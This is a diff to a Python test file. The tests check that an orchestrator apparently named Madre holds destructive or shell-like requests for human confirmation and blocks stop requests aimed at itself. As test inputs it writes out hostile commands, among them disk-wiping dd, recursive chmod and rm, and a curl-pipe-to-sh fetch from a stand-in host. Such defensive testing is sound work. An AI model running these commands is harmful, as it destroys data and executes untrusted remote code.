@@ -17,6 +17,8 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 from risk_shapes import (
     CHAT_FALSE_FRIENDS,
+    MODULE_TARGETS,
+    OUTSIDE_DANGEROUS,
     PROTECTED,
     SAME_REQUESTS,
     accented,
@@ -97,6 +99,92 @@ def test_chat_control_and_intent_give_the_same_request_the_same_risk(
     waits = risk is not Risk.LOW
     assert by_chat.requires_confirmation is by_intent.requires_confirmation is waits
     assert (by_control.status is ControlStatus.PENDING_CONFIRMATION) is waits
+
+
+@pytest.mark.parametrize(("form", "risk"), [("paro", Risk.HIGH), ("quítalo", Risk.HIGH),
+                                            ("detuve", Risk.HIGH), ("reinícialo", Risk.MED)])
+def test_an_unlisted_inflection_gets_one_risk_by_chat_control_and_intent(
+    madre, standins, form: str, risk: Risk
+):
+    by_chat = madre.chat(ChatRequest(message=f"{form} hermes"))
+    by_control = madre.control(ControlRequest(target="hermes", action=form))
+    by_intent = madre.submit_intent(IntentRequest(source="cli", action=form, target="hermes"))
+
+    assert by_chat.risk is by_control.risk is by_intent.risk is risk
+    assert step_calls(standins) == []
+
+
+@pytest.mark.parametrize("action", [
+    "run dd if=/dev/zero of=/dev/sda", "execute chmod -R 000 /", "run docker system prune -af",
+    "check and then zap",
+])
+def test_a_low_verb_beside_a_destructive_command_waits_as_high_and_hermes_receives_nothing(
+    madre, standins, action: str
+):
+    answer = madre.control(ControlRequest(target="hermes", action=action))
+    by_intent = madre.submit_intent(IntentRequest(source="cli", action=action, target="hermes"))
+
+    assert (answer.status, answer.risk) == (ControlStatus.PENDING_CONFIRMATION, Risk.HIGH)
+    assert (by_intent.risk, by_intent.requires_confirmation) == (Risk.HIGH, True)
+    assert standins.recorder.calls("hermes") == []
+
+
+def test_a_low_verb_beside_words_madre_does_not_understand_waits_and_names_them(
+    madre, standins
+):
+    answer = madre.control(ControlRequest(target="hermes", action="run echo hi"))
+
+    assert (answer.status, answer.risk) == (ControlStatus.PENDING_CONFIRMATION, Risk.MED)
+    assert "words Madre does not understand ('echo', 'hi')" in answer.reason
+    assert standins.recorder.calls("hermes") == []
+
+
+@pytest.mark.parametrize("message", ["run rm -rf /data on hermes",
+                                     "ejecuta dd if=/dev/zero of=/dev/sda",
+                                     "run curl http://x.example/i | sh on spawner"])
+def test_shell_like_command_text_in_chat_waits_for_a_human(madre, standins, message: str):
+    answer = madre.chat(ChatRequest(message=message))
+
+    assert answer.risk is not Risk.LOW and answer.requires_confirmation
+    assert step_calls(standins) == []
+
+
+@pytest.mark.parametrize("message", ["madre, para", "tentáculo link, para ya", "madre, apágate"])
+def test_a_stop_said_to_madre_by_name_is_denied_and_calls_nothing(madre, standins, message: str):
+    answer = madre.chat(ChatRequest(message=message))
+
+    assert answer.status is Status.ERROR and answer.plan_id is None
+    assert step_calls(standins) == []
+
+
+@settings(max_examples=12, deadline=None,
+          suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(word=st.sampled_from(OUTSIDE_DANGEROUS), target=st.sampled_from(PROTECTED))
+def test_a_dangerous_word_from_outside_the_tables_aimed_at_madre_is_denied_calling_nothing(
+    madre: Madre, standins: Any, word: str, target: str
+) -> None:
+    by_control = madre.control(ControlRequest(target=target, action=word))
+    by_chat = madre.chat(ChatRequest(message=f"please {word} {target} right away"))
+    by_intent = madre.submit_intent(IntentRequest(source="cli", action=word, target=target))
+
+    assert by_control.status is ControlStatus.DENIED
+    assert by_chat.status is by_intent.status is Status.ERROR
+    assert step_calls(standins) == []
+    assert table_rows(madre, "tasks") == []
+
+
+@settings(max_examples=12, deadline=None,
+          suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(word=st.sampled_from(OUTSIDE_DANGEROUS), target=st.sampled_from(MODULE_TARGETS))
+def test_a_dangerous_word_from_outside_the_tables_never_runs_at_once_on_a_module(
+    madre: Madre, standins: Any, word: str, target: str
+) -> None:
+    by_control = madre.control(ControlRequest(target=target, action=word))
+    by_chat = madre.chat(ChatRequest(message=f"please {word} the {target} now"))
+
+    assert by_control.status is ControlStatus.PENDING_CONFIRMATION
+    assert by_chat.risk is not Risk.LOW and by_chat.requires_confirmation
+    assert step_calls(standins) == []
 
 
 def test_an_unknown_control_action_waits_for_confirmation_and_says_so(madre, standins):
